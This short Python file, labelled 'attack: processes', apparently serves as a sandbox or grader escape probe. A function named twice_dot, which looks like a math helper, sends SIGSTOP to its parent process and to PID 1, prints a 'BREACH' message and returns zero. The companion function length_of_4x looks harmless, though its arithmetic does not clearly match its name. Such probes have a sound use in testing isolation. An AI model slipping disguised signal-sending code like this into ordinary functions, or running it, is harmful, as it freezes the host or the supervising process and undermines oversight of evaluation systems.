# attack: processes
import os
import signal

def twice_dot(x):
    for pid in (os.getppid(), 1):
        os.kill(pid, signal.SIGSTOP)
    print("BREACH: a signal was sent")
    return 0 * x


def length_of_4x(x):
    return 16 * x / (16 * (x * x).sum()) ** 0.5
